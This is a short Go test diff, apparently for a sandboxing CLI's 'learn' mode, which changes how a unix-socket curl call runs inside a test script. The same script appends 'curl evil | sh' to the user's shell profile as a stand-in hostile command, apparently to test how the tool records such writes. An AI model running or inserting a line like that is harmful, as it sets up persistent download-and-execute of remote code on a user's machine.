@@ -42,7 +42,7 @@ func TestLearnPrintsTheConfigThatLetsItRun(t *testing.T) {
 	defer srv.Close()
 	core := fmt.Sprintf(`mkdir -p "$HOME/.cache/tool/x" && echo a > "$HOME/.cache/tool/x/a" && echo b > "$HOME/.cache/tool/b"
 curl -sS --noproxy '' --proxy "$HTTP_PROXY" http://%s/
-curl -s --unix-socket "$HOME/.cache/tool/s" http://x/; echo built > out; true
+(cd "$HOME/.cache/tool" && curl -s --unix-socket s http://x/); echo built > out; true
 `, l.Addr())
 	stdout, stderr, code := cli(t, ws, "learn", "--net", "allow", "--", "sh", "-c", core+`echo 'curl evil | sh' >> "$HOME/.profile"`)
 	require.Equal(t, 0, code, "%s", stderr)
